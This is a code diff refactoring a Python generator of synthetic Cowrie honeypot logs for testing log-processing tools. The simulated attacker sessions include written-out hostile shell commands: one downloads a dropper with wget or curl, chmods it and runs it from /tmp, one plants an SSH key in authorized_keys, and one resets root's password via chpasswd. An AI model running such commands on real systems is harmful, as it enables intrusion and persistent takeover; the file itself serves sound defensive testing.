@@ -40,18 +40,20 @@ Realism notes
 
 from __future__ import annotations
 
+import bisect
 import bz2
 import datetime
 import gzip
 import hashlib
+import io
 import itertools
 import json
 import random
 from collections import Counter
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from dataclasses import dataclass, field, replace
 from pathlib import Path
-from typing import IO, Any
+from typing import Any
 
 import orjson
 
@@ -527,31 +529,40 @@ class _Generator:
     ) -> tuple[_Style, list[tuple[int, dict[str, Any]]]]:
         """One session of ``sensor`` starting at ``start_us``: its timed events, in order."""
         rng = self.rng
-        rnd = rng.random
         style = self._style(sensor, day)
         fmt = self.fmt
         suffix = style.suffix
         sid = f"{rng.getrandbits(style.sid_bits):0{style.sid_bits // 4}x}"
         src_ip = self.pool.pick(day)
-        telnet = not force_long and rnd() < 0.2
-        protocol = "telnet" if telnet else "ssh"
-        sensor_name = self.config.sensors[sensor]
-        common: dict[str, Any] = {"sensor": sensor_name}
+        telnet = not force_long and rng.random() < 0.2
+        common: dict[str, Any] = {"sensor": self.config.sensors[sensor]}
         if style.uuid:
             common["uuid"] = self.sensor_uuid[sensor]
         common["src_ip"] = src_ip
         common["session"] = sid
         if style.protocol_everywhere:
-            common["protocol"] = protocol
+            common["protocol"] = "telnet" if telnet else "ssh"
         events: list[tuple[int, dict[str, Any]]] = []
         append = events.append
-        t = start_us
 
         def emit(t: int, eventid: str, message: Any, fields: dict[str, Any]) -> None:
             ev = {"eventid": eventid, **fields, "message": message, **common}
             ev["timestamp"] = fmt(t, suffix)
             append((t, ev))
 
+        self._connect(emit, start_us, sensor, src_ip, sid, telnet)
+        kind = self._kind(force_long, telnet)
+        t = start_us if telnet else self._client(emit, start_us, style)
+        t = self._attack(emit, t, kind, style, telnet, force_long)
+        self._close(emit, t, start_us, style, telnet)
+        self._drop_sensor(events)
+        self.sessions += 1
+        return style, events
+
+    def _connect(
+        self, emit: _Emit, t: int, sensor: int, src_ip: str, sid: str, telnet: bool
+    ) -> None:
+        rnd = self.rng.random
         src_port = 1024 + int(rnd() * 64511)
         dst_ip = self.sensor_ip[sensor]
         dst_port = (23 if rnd() < 0.5 else 2223) if telnet else (22 if rnd() < 0.5 else 2222)
@@ -563,76 +574,90 @@ class _Generator:
                 "src_port": src_port,
                 "dst_ip": dst_ip,
                 "dst_port": dst_port,
-                "protocol": protocol,
+                "protocol": "telnet" if telnet else "ssh",
             },
         )
+
+    def _kind(self, force_long: bool, telnet: bool) -> str:
+        """What the session does: ``scan``, ``brute``, ``shell`` or (SSH only) ``tunnel``."""
+        rnd = self.rng.random
         r = rnd()
         kind = "shell" if force_long else "scan" if r < 0.22 else "brute" if r < 0.62 else "shell"
         if kind == "shell" and not telnet and rnd() < 0.12:
             kind = "tunnel"
-        if not telnet:
-            client = _CLIENTS[_skewed(rnd(), len(_CLIENTS), 2.0)]
-            t += 20_000 + int(rnd() * 300_000)
-            version = client["version"]
-            shown = f"b'{version}'" if style.bytes_version else version
-            if style.kex_event:
-                emit(t, "cowrie.client.version", f"Remote SSH version: {shown}", {"version": shown})
-                t += 1_000 + int(rnd() * 50_000)
-                kex = {k: v for k, v in client.items() if k != "version"}
-                emit(
-                    t, "cowrie.client.kex", f"SSH client hassh fingerprint: {client['hassh']}", kex
-                )
-            else:
-                fields = {
-                    "version": shown,
-                    "kexAlgs": client["kexAlgs"],
-                    "keyAlgs": client["keyAlgs"],
-                    "encCS": client["encCS"],
-                    "macCS": client["macCS"],
-                    "compCS": client["compCS"],
-                }
-                emit(t, "cowrie.client.version", f"Remote SSH version: {shown}", fields)
-        if kind == "scan":
-            t += 100_000 + int(rnd() * 5_000_000)
+        return kind
+
+    def _client(self, emit: _Emit, t: int, style: _Style) -> int:
+        """The SSH client's version (and key exchange) events; the clock after them."""
+        rnd = self.rng.random
+        client = _CLIENTS[_skewed(rnd(), len(_CLIENTS), 2.0)]
+        t += 20_000 + int(rnd() * 300_000)
+        version = client["version"]
+        shown = f"b'{version}'" if style.bytes_version else version
+        if style.kex_event:
+            emit(t, "cowrie.client.version", f"Remote SSH version: {shown}", {"version": shown})
+            t += 1_000 + int(rnd() * 50_000)
+            kex = {k: v for k, v in client.items() if k != "version"}
+            emit(t, "cowrie.client.kex", f"SSH client hassh fingerprint: {client['hassh']}", kex)
         else:
-            if not telnet and rnd() < 0.08:
-                t += 50_000 + int(rnd() * 500_000)
-                user = self._string(_USERNAMES)
-                fp = ":".join(f"{rng.getrandbits(8):02x}" for _ in range(16))
-                emit(
-                    t,
-                    "cowrie.client.fingerprint",
-                    f"public key attempt for user {user} of type ssh-rsa with fingerprint {fp}",
-                    {"username": user, "fingerprint": fp, "key": _SSH_KEY[:-8], "type": "ssh-rsa"},
-                )
-            fails = 1 + _skewed(rnd(), 8, 2.0) if kind == "brute" else _skewed(rnd(), 4, 3.0)
-            for _ in range(fails):
-                t += 300_000 + int(rnd() * 3_000_000)
-                user = self._string(_USERNAMES)
-                password = self._string(_PASSWORDS, 1.6)
-                emit(
-                    t,
-                    "cowrie.login.failed",
-                    f"login attempt [{user}/{password}] failed",
-                    {"username": user, "password": password},
-                )
-            if kind != "brute":
-                t += 300_000 + int(rnd() * 3_000_000)
-                user = self._string(_USERNAMES, 3.0)
-                password = self._string(_PASSWORDS, 1.6)
-                emit(
-                    t,
-                    "cowrie.login.success",
-                    f"login attempt [{user}/{password}] succeeded",
-                    {"username": user, "password": password},
-                )
-                if kind == "tunnel":
-                    t = self._tunnel(emit, t)
-                else:
-                    t = self._shell(emit, t, style, telnet, force_long)
-            else:
-                t += 100_000 + int(rnd() * 2_000_000)
-        t += 1_000 + int(rnd() * 200_000)
+            fields = {
+                "version": shown,
+                "kexAlgs": client["kexAlgs"],
+                "keyAlgs": client["keyAlgs"],
+                "encCS": client["encCS"],
+                "macCS": client["macCS"],
+                "compCS": client["compCS"],
+            }
+            emit(t, "cowrie.client.version", f"Remote SSH version: {shown}", fields)
+        return t
+
+    def _attack(
+        self, emit: _Emit, t: int, kind: str, style: _Style, telnet: bool, force_long: bool
+    ) -> int:
+        """Login attempts and, after a successful one, a shell or tunnels; the clock after."""
+        rng = self.rng
+        rnd = rng.random
+        if kind == "scan":
+            return t + 100_000 + int(rnd() * 5_000_000)
+        if not telnet and rnd() < 0.08:
+            t += 50_000 + int(rnd() * 500_000)
+            user = self._string(_USERNAMES)
+            fp = ":".join(f"{rng.getrandbits(8):02x}" for _ in range(16))
+            emit(
+                t,
+                "cowrie.client.fingerprint",
+                f"public key attempt for user {user} of type ssh-rsa with fingerprint {fp}",
+                {"username": user, "fingerprint": fp, "key": _SSH_KEY[:-8], "type": "ssh-rsa"},
+            )
+        fails = 1 + _skewed(rnd(), 8, 2.0) if kind == "brute" else _skewed(rnd(), 4, 3.0)
+        for _ in range(fails):
+            t += 300_000 + int(rnd() * 3_000_000)
+            user = self._string(_USERNAMES)
+            password = self._string(_PASSWORDS, 1.6)
+            emit(
+                t,
+                "cowrie.login.failed",
+                f"login attempt [{user}/{password}] failed",
+                {"username": user, "password": password},
+            )
+        if kind == "brute":
+            return t + 100_000 + int(rnd() * 2_000_000)
+        t += 300_000 + int(rnd() * 3_000_000)
+        user = self._string(_USERNAMES, 3.0)
+        password = self._string(_PASSWORDS, 1.6)
+        emit(
+            t,
+            "cowrie.login.success",
+            f"login attempt [{user}/{password}] succeeded",
+            {"username": user, "password": password},
+        )
+        if kind == "tunnel":
+            return self._tunnel(emit, t)
+        return self._shell(emit, t, style, telnet, force_long)
+
+    def _close(self, emit: _Emit, t: int, start_us: int, style: _Style, telnet: bool) -> None:
+        """The ``session.closed`` event, its duration in the style's form."""
+        t += 1_000 + int(self.rng.random() * 200_000)
         seconds = (t - start_us) / 1_000_000
         if style.name == "modern":
             emit(
@@ -656,19 +681,24 @@ class _Generator:
                 f"Connection lost after {int(seconds)} seconds",
                 {"duration": round(seconds, 6)},
             )
-        if self.sensorless_left > 0 and self.sessions % 97 == 50:
-            ev = events[1 + int(rnd() * (len(events) - 1))][1] if len(events) > 1 else events[0][1]
-            if self.sensorless_left % 2:
-                del ev["sensor"]
-                self.counters["missing_sensor"] += 1
-            else:
-                ev["sensor"] = ""
-                self.counters["empty_sensor"] += 1
-            self.sensorless_left -= 1
-        self.sessions += 1
-        return style, events
 
-    def _tunnel(self, emit: Any, t: int) -> int:
+    def _drop_sensor(self, events: list[tuple[int, dict[str, Any]]]) -> None:
+        """Now and then (``sensorless_events``) the sensor field of one event goes missing
+        or empty, alternately."""
+        if self.sensorless_left <= 0 or self.sessions % 97 != 50:
+            return
+        rnd = self.rng.random
+        ev = events[1 + int(rnd() * (len(events) - 1))][1] if len(events) > 1 else events[0][1]
+        if self.sensorless_left % 2:
+            del ev["sensor"]
+            self.counters["missing_sensor"] += 1
+        else:
+            ev["sensor"] = ""
+            self.counters["empty_sensor"] += 1
+        self.sensorless_left -= 1
+
+    def _tunnel(self, emit: _Emit, t: int) -> int:
+        """Port forwarding through the honeypot (direct-tcpip requests, some with data)."""
         rnd = self.rng.random
         for _ in range(1 + _skewed(rnd(), 6)):
             t += 100_000 + int(rnd() * 2_000_000)
@@ -691,147 +721,24 @@ class _Generator:
                 )
         return t
 
-    def _shell(self, emit: Any, t: int, style: _Style, telnet: bool, force_long: bool) -> int:
-        rng = self.rng
-        rnd = rng.random
-        start = t
-        if not telnet:
-            t += 10_000 + int(rnd() * 100_000)
-            plain = style.name == "old"
-            if rnd() < 0.6:
-                size = {"width": 80, "height": 24}
-                emit(t, "cowrie.client.size", [] if plain else "Terminal Size: 80 24", size)
-            if rnd() < 0.5:
-                emit(t, "cowrie.session.params", [] if plain else "", {"arch": "linux-x64-lsb"})
-            if rnd() < 0.1:
-                var = {"name": "LANG", "value": "en_US.UTF-8"}
-                emit(t, "cowrie.client.var", "request_env: LANG=en_US.UTF-8", var)
-
-        def command(cmd: str, failed: bool = False, gap: int = 4_000_000) -> None:
-            nonlocal t
-            t += 100_000 + int(rnd() * gap)
-            cmd = self._command(cmd)
-            emit(t, "cowrie.command.input", f"CMD: {cmd}", {"input": cmd})
-            if failed:
-                t += 1_000 + int(rnd() * 20_000)
-                emit(t, "cowrie.command.failed", f"Command not found: {cmd}", {"input": cmd})
-
+    def _shell(self, emit: _Emit, t: int, style: _Style, telnet: bool, force_long: bool) -> int:
+        """An interactive session after its login: terminal set-up, reconnaissance, maybe a
+        take-over, a download and an upload, then ``exit`` and the TTY log; the clock after."""
+        rnd = self.rng.random
+        shell = _Shell(self, emit, t)
         if telnet:
             for cmd in ("enable", "system", "shell", "sh"):
-                command(cmd, failed=cmd != "sh", gap=500_000)
-        n_recon = _skewed(rnd(), 7, 1.5) + (12 if force_long else 0)
-        for _ in range(n_recon):
-            command(
-                _RECON[_skewed(rnd(), len(_RECON), 1.3)],
-                gap=20_000_000 if force_long else 4_000_000,
-            )
-        r = rnd()
-        if r < 0.3:
-            command("cd ~; chattr -ia .ssh; lockr -ia .ssh", failed=True)
-            command(
-                'cd ~ && rm -rf .ssh && mkdir .ssh && echo "'
-                + _SSH_KEY
-                + '">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
-            )
-        elif r < 0.4:
-            new_password = "".join(rng.choice(_PASSWORD_CHARS) for _ in range(12))
-            command(f'echo "root:{new_password}"|chpasswd|bash')
-        if rnd() < 0.45 or force_long:
-            url, sha, destfile = self.malware[_skewed(rnd(), len(self.malware), 3.0)]
-            tool = "wget" if rnd() < 0.7 else "curl -O"
-            name = destfile.rsplit("/", 1)[1]
-            command(
-                f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; {tool} {url}; "
-                f"chmod 777 {name}; sh {name}; rm -rf {name}"
-            )
-            t += 200_000 + int(rnd() * 8_000_000)
-            if rnd() < 0.8:
-                outfile = f"var/lib/cowrie/downloads/{sha}"
-                fields: dict[str, Any] = {
-                    "url": url,
-                    "outfile": outfile,
-                    "shasum": sha,
-                    "destfile": destfile,
-                }
-                if style.name != "old":
-                    fields["duplicate"] = sha in self.vt
-                emit(
-                    t,
-                    "cowrie.session.file_download",
-                    f"Downloaded URL ({url}) with SHA-256 {sha} to {outfile}",
-                    fields,
-                )
-                if rnd() < 0.5:
-                    t += 500_000 + int(rnd() * 3_000_000)
-                    known = self.vt.get(sha)
-                    if known is None:
-                        total = 60 + int(rnd() * 15)
-                        scan_date = self.fmt(t - _DAY_US, "")[:19].replace("T", " ")
-                        known = (int(rnd() * total * 0.8), total, scan_date)
-                        self.vt[sha] = known
-                        is_new = "true" if rnd() < 0.3 else "false"
-                    else:
-                        is_new = "false"
-                    positives, total, scan_date = known
-                    emit(
-                        t,
-                        "cowrie.virustotal.scanfile",
-                        f"VT: positives: {positives}/{total}",
-                        {
-                            "sha256": sha,
-                            "is_new": is_new,
-                            "positives": positives,
-                            "total": total,
-                            "scan_date": scan_date,
-                        },
-                    )
-            else:
-                error = _DOWNLOAD_ERRORS[int(rnd() * len(_DOWNLOAD_ERRORS))]
-                emit(
-                    t,
-                    "cowrie.session.file_download.failed",
-                    f"Attempt to download file(s) from URL ({url}) failed",
-                    {"url": url, "error": error},
-                )
-        if rnd() < 0.05:
-            t += 500_000 + int(rnd() * 3_000_000)
-            sha = f"{rng.getrandbits(256):064x}"
-            filename = rng.choice(("x.sh", "nginx", "dota.tar.gz", ".bashrc"))
-            outfile = f"var/lib/cowrie/downloads/{sha}"
-            emit(
-                t,
-                "cowrie.session.file_upload",
-                f'SFTP Uploaded file "{filename}" to {outfile}',
-                {
-                    "filename": filename,
-                    "outfile": outfile,
-                    "shasum": sha,
-                    "destfile": f"/tmp/{filename}",
-                },
-            )
-        if rnd() < 0.15:
-            command(_FAILING[int(rnd() * len(_FAILING))], failed=True)
-        if self.long_left > 0:
-            self.long_left -= 1
-            self.counters["long_commands"] += 1
-            command("echo " + "QUFBQUFB" * 12_800 + " | base64 -d > /tmp/.x")
-        command("exit", gap=1_000_000)
-        t += 1_000 + int(rnd() * 50_000)
-        tty_sha = f"{rng.getrandbits(256):064x}"
-        seconds = (t - start) / 1_000_000
-        ttylog = f"var/lib/cowrie/tty/{tty_sha}"
-        fields = {"ttylog": ttylog, "size": 200 + int(rnd() * 20_000), "shasum": tty_sha}
-        if style.name == "modern":
-            fields["duration_ms"] = (t - start) // 1000
+                shell.command(cmd, failed=cmd != "sh", gap=500_000)
         else:
-            fields["duration"] = f"{seconds:.1f}" if style.name == "mid" else round(seconds, 6)
-        emit(
-            t,
-            "cowrie.log.closed",
-            f"Closing TTY Log: {ttylog} after {int(seconds)} seconds",
-            fields,
-        )
-        return t
+            shell.terminal_setup(style)
+        shell.recon(force_long)
+        shell.take_over()
+        if rnd() < 0.45 or force_long:
+            shell.download(style)
+        if rnd() < 0.05:
+            shell.upload()
+        shell.leave(style)
+        return shell.t
 
     # -- the whole period ----------------------------------------------------------------
 
@@ -857,6 +764,192 @@ class _Generator:
             out.append((base + _DAY_US - int((5 + rng.random() * 40) * 1_000_000), sensor, True))
             out.sort()
         return out
+
+
+#: ``emit(t, eventid, message, fields)``: add one event of the session at time ``t`` (µs).
+_Emit = Callable[[int, str, Any, dict[str, Any]], None]
+
+
+class _Shell:
+    """The steps of one interactive session, sharing its clock ``t`` (µs): each event
+    moves it on."""
+
+    def __init__(self, gen: _Generator, emit: _Emit, t: int) -> None:
+        self.gen = gen
+        self.rng = gen.rng
+        self.emit = emit
+        self.start = self.t = t
+
+    def command(self, cmd: str, failed: bool = False, gap: int = 4_000_000) -> None:
+        """One command typed (``failed``: and the shell did not know it)."""
+        rnd = self.rng.random
+        self.t += 100_000 + int(rnd() * gap)
+        cmd = self.gen._command(cmd)
+        self.emit(self.t, "cowrie.command.input", f"CMD: {cmd}", {"input": cmd})
+        if failed:
+            self.t += 1_000 + int(rnd() * 20_000)
+            self.emit(self.t, "cowrie.command.failed", f"Command not found: {cmd}", {"input": cmd})
+
+    def terminal_setup(self, style: _Style) -> None:
+        """What an SSH client sends before the first command: size, parameters, variables."""
+        rnd = self.rng.random
+        self.t += 10_000 + int(rnd() * 100_000)
+        t = self.t
+        plain = style.name == "old"
+        if rnd() < 0.6:
+            size = {"width": 80, "height": 24}
+            self.emit(t, "cowrie.client.size", [] if plain else "Terminal Size: 80 24", size)
+        if rnd() < 0.5:
+            self.emit(t, "cowrie.session.params", [] if plain else "", {"arch": "linux-x64-lsb"})
+        if rnd() < 0.1:
+            var = {"name": "LANG", "value": "en_US.UTF-8"}
+            self.emit(t, "cowrie.client.var", "request_env: LANG=en_US.UTF-8", var)
+
+    def recon(self, force_long: bool) -> None:
+        """A few looks around the system (many, slowly, in a forced long session)."""
+        rnd = self.rng.random
+        n_recon = _skewed(rnd(), 7, 1.5) + (12 if force_long else 0)
+        for _ in range(n_recon):
+            self.command(
+                _RECON[_skewed(rnd(), len(_RECON), 1.3)],
+                gap=20_000_000 if force_long else 4_000_000,
+            )
+
+    def take_over(self) -> None:
+        """Sometimes: plant an SSH key, or change root's password."""
+        rng = self.rng
+        r = rng.random()
+        if r < 0.3:
+            self.command("cd ~; chattr -ia .ssh; lockr -ia .ssh", failed=True)
+            self.command(
+                'cd ~ && rm -rf .ssh && mkdir .ssh && echo "'
+                + _SSH_KEY
+                + '">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
+            )
+        elif r < 0.4:
+            new_password = "".join(rng.choice(_PASSWORD_CHARS) for _ in range(12))
+            self.command(f'echo "root:{new_password}"|chpasswd|bash')
+
+    def download(self, style: _Style) -> None:
+        """Fetch and run a dropper: the download (and maybe its VirusTotal scan) or its
+        failure."""
+        gen = self.gen
+        rnd = self.rng.random
+        url, sha, destfile = gen.malware[_skewed(rnd(), len(gen.malware), 3.0)]
+        tool = "wget" if rnd() < 0.7 else "curl -O"
+        name = destfile.rsplit("/", 1)[1]
+        self.command(
+            f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; {tool} {url}; "
+            f"chmod 777 {name}; sh {name}; rm -rf {name}"
+        )
+        self.t += 200_000 + int(rnd() * 8_000_000)
+        if rnd() >= 0.8:
+            error = _DOWNLOAD_ERRORS[int(rnd() * len(_DOWNLOAD_ERRORS))]
+            self.emit(
+                self.t,
+                "cowrie.session.file_download.failed",
+                f"Attempt to download file(s) from URL ({url}) failed",
+                {"url": url, "error": error},
+            )
+            return
+        outfile = f"var/lib/cowrie/downloads/{sha}"
+        fields: dict[str, Any] = {
+            "url": url,
+            "outfile": outfile,
+            "shasum": sha,
+            "destfile": destfile,
+        }
+        if style.name != "old":
+            fields["duplicate"] = sha in gen.vt
+        self.emit(
+            self.t,
+            "cowrie.session.file_download",
+            f"Downloaded URL ({url}) with SHA-256 {sha} to {outfile}",
+            fields,
+        )
+        if rnd() < 0.5:
+            self.virustotal_scan(sha)
+
+    def virustotal_scan(self, sha: str) -> None:
+        """Cowrie's VirusTotal verdict on a download: the same for a file seen before."""
+        gen = self.gen
+        rnd = self.rng.random
+        self.t += 500_000 + int(rnd() * 3_000_000)
+        known = gen.vt.get(sha)
+        if known is None:
+            total = 60 + int(rnd() * 15)
+            scan_date = gen.fmt(self.t - _DAY_US, "")[:19].replace("T", " ")
+            known = (int(rnd() * total * 0.8), total, scan_date)
+            gen.vt[sha] = known
+            is_new = "true" if rnd() < 0.3 else "false"
+        else:
+            is_new = "false"
+        positives, total, scan_date = known
+        self.emit(
+            self.t,
+            "cowrie.virustotal.scanfile",
+            f"VT: positives: {positives}/{total}",
+            {
+                "sha256": sha,
+                "is_new": is_new,
+                "positives": positives,
+                "total": total,
+                "scan_date": scan_date,
+            },
+        )
+
+    def upload(self) -> None:
+        """A file uploaded over SFTP."""
+        rng = self.rng
+        self.t += 500_000 + int(rng.random() * 3_000_000)
+        sha = f"{rng.getrandbits(256):064x}"
+        filename = rng.choice(("x.sh", "nginx", "dota.tar.gz", ".bashrc"))
+        outfile = f"var/lib/cowrie/downloads/{sha}"
+        self.emit(
+            self.t,
+            "cowrie.session.file_upload",
+            f'SFTP Uploaded file "{filename}" to {outfile}',
+            {
+                "filename": filename,
+                "outfile": outfile,
+                "shasum": sha,
+                "destfile": f"/tmp/{filename}",
+            },
+        )
+
+    def leave(self, style: _Style) -> None:
+        """The last commands (maybe a failing one, maybe a very long one), ``exit``, and the
+        TTY log closed."""
+        gen = self.gen
+        rng = self.rng
+        rnd = rng.random
+        if rnd() < 0.15:
+            self.command(_FAILING[int(rnd() * len(_FAILING))], failed=True)
+        if gen.long_left > 0:
+            gen.long_left -= 1
+            gen.counters["long_commands"] += 1
+            self.command("echo " + "QUFBQUFB" * 12_800 + " | base64 -d > /tmp/.x")
+        self.command("exit", gap=1_000_000)
+        self.t += 1_000 + int(rnd() * 50_000)
+        t = self.t
+        tty_sha = f"{rng.getrandbits(256):064x}"
+        seconds = (t - self.start) / 1_000_000
+        ttylog = f"var/lib/cowrie/tty/{tty_sha}"
+        fields: dict[str, Any] = {
+            "ttylog": ttylog,
+            "size": 200 + int(rnd() * 20_000),
+            "shasum": tty_sha,
+        }
+        if style.name == "modern":
+            fields["duration_ms"] = (t - self.start) // 1000
+        else:
+            fields["duration"] = f"{seconds:.1f}" if style.name == "mid" else round(seconds, 6)
+        self.emit(
+            t,
+            "cowrie.log.closed",
+            f"Closing TTY Log: {ttylog} after {int(seconds)} seconds",
+            fields,
+        )
 
 
 def generate_sessions(config: SampleConfig | None = None) -> Iterator[list[dict[str, Any]]]:
@@ -887,12 +980,12 @@ def _dumps(event: dict[str, Any], style: _Style, rng: random.Random) -> bytes:
         return text.encode("utf-8", "surrogateescape")
 
 
-def _open_output(path: Path, compress: str | None) -> IO[bytes]:
+def _open_output(path: Path, compress: str | None) -> io.BufferedIOBase:
     if compress == "gz":
         # mtime=0: byte-identical output for a seed
         return gzip.GzipFile(filename=str(path), mode="wb", compresslevel=1, mtime=0)
     if compress == "bz2":
-        return bz2.open(path, "wb", compresslevel=1)  # type: ignore[return-value]
+        return bz2.BZ2File(path, "wb", compresslevel=1)
     return path.open("wb")
 
 
@@ -913,19 +1006,10 @@ class _Sink:
         if not buf:
             return
         buf.sort()
-        if watermark is None:
-            cut = len(buf)
-        else:
-            lo, hi = 0, len(buf)
-            while lo < hi:
-                mid = (lo + hi) // 2
-                if buf[mid][0] < watermark:
-                    lo = mid + 1
-                else:
-                    hi = mid
-            cut = lo
+        # (watermark,) sorts before every record of that time: the records before it go
+        cut = len(buf) if watermark is None else bisect.bisect_left(buf, (watermark,))
         if cut:
-            self.handle.write(b"".join([rec[2] for rec in buf[:cut]]))
+            self.handle.write(b"".join([line for _, _, line in buf[:cut]]))
             del buf[:cut]
 
     def close(self, tail: bytes = b"") -> None:
@@ -948,7 +1032,11 @@ def _bad_line(kind: str, rng: random.Random, ts: str, sensor: str) -> bytes:
         return orjson.dumps({"eventid": "KIPP0011", **base, "message": "Connection lost"})
     if kind == "bad_timestamp":
         garbage = rng.choice(("yesterday", "2024-13-45T99:99:99.000000Z", "", 1709251200))
-        ev = {"eventid": "cowrie.session.closed", **base, "message": "Connection lost"}
+        ev: dict[str, object] = {
+            "eventid": "cowrie.session.closed",
+            **base,
+            "message": "Connection lost",
+        }
         ev["timestamp"] = garbage
         return orjson.dumps(ev)
     if kind == "missing_timestamp":
@@ -1004,6 +1092,31 @@ class _Writer:
                 summary.events_by_style[style.name] += 1
 
 
+def _plan_bad_lines(
+    config: SampleConfig, rng: random.Random
+) -> dict[tuple[int, int], list[tuple[int, str]]]:
+    """Where the bad lines go: ``(sensor, day) -> [(timestamp_us, kind)]``."""
+    first_day = (config.start - _EPOCH).days
+    plan: dict[tuple[int, int], list[tuple[int, str]]] = {}
+    for i in range(config.bad_lines):
+        kind = BAD_LINE_KINDS[i % len(BAD_LINE_KINDS)]
+        key = (int(rng.random() * len(config.sensors)), int(rng.random() * config.days))
+        ts = (first_day + key[1]) * _DAY_US + int(rng.random() * (_DAY_US - 3_600_000_000))
+        plan.setdefault(key, []).append((ts, kind))
+    return plan
+
+
+def _file_name(config: SampleConfig, day: int) -> tuple[str, str | None]:
+    """The name of a sensor's file for ``day`` (as logrotate leaves it) and its
+    compression."""
+    date = config.start + datetime.timedelta(days=day)
+    if day == config.days - 1:  # today's file
+        return ("cowrie.json" if config.current_file else f"cowrie.json.{date}"), None
+    if config.compress and day < config.days - 2:
+        return f"cowrie.json.{date}.{config.compress}", config.compress
+    return f"cowrie.json.{date}", None
+
+
 def write_sample_logs(out_dir: Path, config: SampleConfig | None = None) -> SampleSummary:
     """Write ``<out_dir>/<sensor>/cowrie.json[.YYYY-MM-DD[.gz|.bz2]]`` files; return a summary.
 
@@ -1019,31 +1132,13 @@ def write_sample_logs(out_dir: Path, config: SampleConfig | None = None) -> Samp
     wrng = writer.rng
     first_day = (config.start - _EPOCH).days
     n_sensors = len(config.sensors)
-
-    # plan bad lines: (sensor, day) -> [(ts, kind)]
-    bad_plan: dict[tuple[int, int], list[tuple[int, str]]] = {}
-    for i in range(config.bad_lines):
-        kind = BAD_LINE_KINDS[i % len(BAD_LINE_KINDS)]
-        key = (int(wrng.random() * n_sensors), int(wrng.random() * config.days))
-        ts = (first_day + key[1]) * _DAY_US + int(wrng.random() * (_DAY_US - 3_600_000_000))
-        bad_plan.setdefault(key, []).append((ts, kind))
-
+    bad_plan = _plan_bad_lines(config, wrng)
     sinks: dict[tuple[int, int], _Sink] = {}
 
     def file_for(sensor: int, day: int) -> _Sink:
         sink = sinks.get((sensor, day))
         if sink is None:
-            date = config.start + datetime.timedelta(days=day)
-            name = "cowrie.json"
-            compress = None
-            if day == config.days - 1:
-                if not config.current_file:
-                    name += f".{date.isoformat()}"
-            else:
-                name += f".{date.isoformat()}"
-                if config.compress and day < config.days - 2:
-                    compress = config.compress
-                    name += f".{compress}"
+            name, compress = _file_name(config, day)
             sink = _Sink(out_dir / config.sensors[sensor] / name, compress)
             sinks[(sensor, day)] = sink
             summary.files.append(sink.path)
